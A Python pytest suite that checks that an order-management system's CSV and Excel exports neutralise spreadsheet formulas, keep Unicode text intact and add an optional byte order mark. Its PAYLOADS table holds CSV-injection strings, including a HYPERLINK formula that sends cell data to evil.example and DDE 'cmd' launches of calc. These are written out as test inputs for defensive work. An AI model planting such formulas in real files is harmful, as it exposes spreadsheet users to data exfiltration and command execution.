"""Spreadsheet safety of the CSV and XLS exports: formula neutralisation, exact round trips
of awkward text, and the opt-in byte order mark for Excel.

OWASP's CSV Injection rule: a text cell starting with ``=``, ``+``, ``-``, ``@``, tab,
carriage return or line feed gets a leading ``'``. JSON is never changed.
"""

import csv
import io
from collections.abc import Callable
from typing import Any, ClassVar

import pytest
from django.http import HttpResponse
from openpyxl import load_workbook
from rest_framework import serializers
from rest_framework.test import APIClient

from channels.models import Channel
from customers.models import Customer
from oms.tabular.formulas import neutralise_formula, restore_formula
from oms.tabular.renderers import CSVRenderer
from oms.tabular.rows import RowBatch, RowSerializer
from tests.conftest import LIST_URL, read_fixture

pytestmark = pytest.mark.django_db

MakeCustomer = Callable[..., Customer]
BOM = b"\xef\xbb\xbf"
# The specification's field order: the header row of both formats.
HEADER = list(read_fixture("list-simple.GET.json")["results"][0])
TEXT_FIELDS = ["email", "first_name", "last_name", "phone_number", "erp_code"]
# A payload per trigger character, as attackers write them.
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "\n": "\n=1+1",
}
TRIGGERS = [pytest.param(payload, id=repr(trigger)) for trigger, payload in PAYLOADS.items()]


def csv_rows(response: HttpResponse) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def sheet_rows(response: HttpResponse) -> list[list[Any]]:
    assert response.status_code == 200, response.content
    workbook = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def as_read_from_xlsx(text: str) -> str:
    """``text`` as a workbook gives it back: XML reads every line end as a line feed, so
    a carriage return comes back as ``\\n`` (CSV keeps it)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def read_rows(response: HttpResponse) -> list[list[Any]]:
    """The rows of a CSV or XLS download, whichever the response is."""
    is_csv = response["Content-Type"].startswith("text/csv")
    return csv_rows(response) if is_csv else sheet_rows(response)


def export(client: APIClient, data_format: str, **params: Any) -> HttpResponse:
    return client.get(LIST_URL, {"format": data_format, **params})


def column(rows: list[list[Any]], name: str) -> list[Any]:
    """The data cells of one column (header row left out)."""
    header, *data = rows
    return [row[header.index(name)] for row in data]


# --- formula neutralisation ------------------------------------------------------------


@pytest.mark.parametrize("payload", TRIGGERS)
@pytest.mark.parametrize("data_format", ["csv", "xls"])
def test_every_trigger_is_quoted_in_every_text_column(
    data_format: str, payload: str, api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer(**dict.fromkeys(TEXT_FIELDS, payload))

    rows = read_rows(export(api_client, data_format))

    quoted = f"'{payload}"
    assert rows[0] == HEADER
    for name in TEXT_FIELDS:
        assert column(rows, name) == [
            quoted if data_format == "csv" else as_read_from_xlsx(quoted)
        ], name


def test_no_cell_of_the_workbook_is_a_formula(
    api_client: APIClient, make_customer: MakeCustomer
) -> None:
    """openpyxl stores text starting with ``=`` as a live formula; the quote prevents it."""
    make_customer(first_name=PAYLOADS["="], last_name="=1+1")

    response = export(api_client, "xls")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [
        cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ] == []


@pytest.mark.parametrize("payload", TRIGGERS)
def test_json_is_never_changed(
    payload: str, api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer(**dict.fromkeys(TEXT_FIELDS, payload))

    (row,) = api_client.get(LIST_URL).json()["results"]

    assert {name: row[name] for name in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, payload)


@pytest.mark.parametrize(
    "text",
    ["a=b", "'already quoted", "O'Brien", " =leading space", "", "05551234567", "(1)+2"],
)
@pytest.mark.parametrize("data_format", ["csv", "xls"])
def test_text_not_starting_with_a_trigger_is_unchanged(
    text: str, data_format: str, api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer(first_name=text)

    rows = read_rows(export(api_client, data_format))

    # openpyxl reads an empty cell as None.
    assert column(rows, "first_name") == [text if text or data_format == "csv" else None]


def test_phone_numbers_with_a_plus_are_quoted_in_spreadsheets_only(
    api_client: APIClient, make_customer: MakeCustomer
) -> None:
    """``+905551234567`` is text that Excel would turn into a number (or a formula)."""
    make_customer(phone_number="+905551234567")

    assert column(csv_rows(export(api_client, "csv")), "phone_number") == ["'+905551234567"]
    assert column(sheet_rows(export(api_client, "xls")), "phone_number") == ["'+905551234567"]
    assert api_client.get(LIST_URL).json()["results"][0]["phone_number"] == "+905551234567"


def test_numbers_stay_numbers(
    api_client: APIClient, make_customer: MakeCustomer, channel: Channel
) -> None:
    """Negative and positive integers are written as numbers, never quoted text: a
    number cannot be a formula. drf-excel's own sanitiser wrote the channel id as text."""
    customer = make_customer(omnitron_id=-5, channel=channel, first_name="-5")

    (csv_row,) = csv_rows(export(api_client, "csv"))[1:]
    (xls_row,) = sheet_rows(export(api_client, "xls"))[1:]

    csv_cells = dict(zip(HEADER, csv_row, strict=True))
    assert (csv_cells["id"], csv_cells["omnitron_id"], csv_cells["channel"]) == (
        str(customer.id),
        "-5",
        str(channel.id),
    )
    assert csv_cells["first_name"] == "'-5"  # the same characters as text are quoted
    xls_cells = dict(zip(HEADER, xls_row, strict=True))
    assert (xls_cells["id"], xls_cells["omnitron_id"], xls_cells["channel"]) == (
        customer.id,
        -5,
        channel.id,
    )
    assert all(type(xls_cells[name]) is int for name in ("id", "omnitron_id", "channel"))
    assert xls_cells["first_name"] == "'-5"


def test_control_characters_are_dropped_from_workbooks_before_the_rule_applies(
    api_client: APIClient, make_customer: MakeCustomer
) -> None:
    """A workbook cannot hold most control characters (openpyxl refuses them: a 500);
    they are removed, and what is left is neutralised. CSV keeps them as they are."""
    make_customer(first_name="\x01=1+1", last_name="a\x0bb\x1fc")

    xls = sheet_rows(export(api_client, "xls"))
    csv_ = csv_rows(export(api_client, "csv"))

    assert (column(xls, "first_name"), column(xls, "last_name")) == (["'=1+1"], ["abc"])
    assert (column(csv_, "first_name"), column(csv_, "last_name")) == (
        ["\x01=1+1"],
        ["a\x0bb\x1fc"],
    )


def test_workbook_text_is_text_and_readable(
    api_client: APIClient, make_customer: MakeCustomer
) -> None:
    """Text that looks like an error code stays text (openpyxl wrote an error value), and
    U+FFFE and U+FFFF, which XML cannot hold (openpyxl wrote them: a workbook no reader
    opens), are dropped like control characters."""
    make_customer(first_name="#N/A", last_name="a\ufffeb\uffffc")

    response = export(api_client, "xls")

    sheet = load_workbook(io.BytesIO(response.content)).active
    first_name, last_name = (sheet.cell(2, HEADER.index(name) + 1) for name in TEXT_FIELDS[1:3])
    assert (first_name.value, first_name.data_type) == ("#N/A", "s")
    assert last_name.value == "abc"
    assert column(csv_rows(export(api_client, "csv")), "last_name") == ["a\ufffeb\uffffc"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((payload, f"'{payload}") for payload in PAYLOADS.values()),
        ("'=marked", "''=marked"),  # so that the mark comes off exactly on import
        ("''", "'''"),
        ("'a", "'a"),
        ("'", "'"),
        ("plain", "plain"),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise_formula(value: Any, expected: Any) -> None:
    assert neutralise_formula(value) == expected


class TriggerNamedSerializer(serializers.ModelSerializer):
    """Columns whose names start with formula triggers."""

    class Meta:
        model = Customer
        fields: ClassVar[list[str]] = []

    def get_fields(self) -> dict[str, serializers.Field]:
        return {
            "-id": serializers.IntegerField(source="id"),
            "=name": serializers.CharField(source="first_name"),
        }


def test_the_header_row_is_never_neutralised() -> None:
    """Only data cells are neutralised: the header row is the serializer's field names."""
    batch = RowBatch(RowSerializer(TriggerNamedSerializer()), [(-1, "=x")])

    body = CSVRenderer().render({"results": batch}, renderer_context={"response": HttpResponse()})

    assert body.decode() == "-id,=name\r\n-1,'=x\r\n"


# --- round trips -----------------------------------------------------------------------

AWKWARD = {
    "first_name": 'Ali, "the" Second',
    "last_name": "İpek Şükrü Ğ ı\nline two",
    "email": "çağrı@örnek.com.tr",
    "phone_number": '漢字 한국어, "quoted"',
    "erp_code": "-漢字",  # a trigger: the only cell that changes
}


@pytest.mark.parametrize("data_format", ["csv", "xls"])
def test_awkward_text_survives_exactly_apart_from_the_quote(
    data_format: str, api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer(**AWKWARD)
    (json_row,) = api_client.get(LIST_URL).json()["results"]
    assert {name: json_row[name] for name in AWKWARD} == AWKWARD

    rows = read_rows(export(api_client, data_format))

    assert rows[0] == HEADER
    assert {name: column(rows, name)[0] for name in AWKWARD} == {
        **AWKWARD,
        "erp_code": "'-漢字",
    }


def test_carriage_returns_survive_csv(api_client: APIClient, make_customer: MakeCustomer) -> None:
    make_customer(last_name="one\r\ntwo\rthree")

    assert column(csv_rows(export(api_client, "csv")), "last_name") == ["one\r\ntwo\rthree"]
    assert column(sheet_rows(export(api_client, "xls")), "last_name") == ["one\ntwo\nthree"]


# --- byte order mark -------------------------------------------------------------------


@pytest.mark.parametrize(
    "ask",
    [{"format": "csv"}, {"HTTP_ACCEPT": "text/csv"}],
    ids=["?format=csv", "Accept: text/csv"],
)
def test_bom_1_starts_the_csv_with_a_utf8_byte_order_mark(
    ask: dict[str, str], api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer(first_name="İpek")
    query = {key: value for key, value in ask.items() if not key.startswith("HTTP_")}
    headers = {key: value for key, value in ask.items() if key.startswith("HTTP_")}

    with_bom = api_client.get(LIST_URL, {**query, "bom": "1"}, **headers)
    without = api_client.get(LIST_URL, query, **headers)

    assert with_bom.status_code == without.status_code == 200
    assert with_bom.content.startswith(BOM + b"id,created_date,")
    assert without.content.startswith(b"id,created_date,")
    assert with_bom.content == BOM + without.content
    # Readers that know the mark (Excel, Python's utf-8-sig) see the same header row.
    assert with_bom.content.decode("utf-8-sig") == without.content.decode("utf-8")


@pytest.mark.parametrize(
    ("value", "mark"),
    [("1", BOM), ("0", b""), ("", b""), ("true", b""), ("yes", b""), ("2", b"")],
)
def test_only_bom_1_adds_the_mark(value: str, mark: bytes, api_client: APIClient) -> None:
    """An empty page is the header row alone, after the mark when there is one."""
    response = export(api_client, "csv", bom=value)

    assert response.status_code == 200
    assert response.content == mark + (",".join(HEADER) + "\r\n").encode()


def test_bom_is_ignored_by_other_formats_and_by_errors(
    api_client: APIClient, make_customer: MakeCustomer
) -> None:
    make_customer()

    json_body = api_client.get(LIST_URL, {"bom": "1"})
    workbook = export(api_client, "xls", bom="1")
    error = export(api_client, "csv", bom="1", limit="0")

    assert json_body.content.startswith(b'{"count":1,')
    assert workbook.content.startswith(b"PK")  # a zip archive, readable below
    assert sheet_rows(workbook)[0] == HEADER
    assert error.status_code == 400
    assert error.content.startswith(b'{"limit":')


@pytest.mark.parametrize(
    "text", ["=1+1", "+90555", "'=x", "''", "'a", "'", "''+", "", "plain", "\t", "'\n"]
)
def test_restore_formula_undoes_neutralise_formula(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text
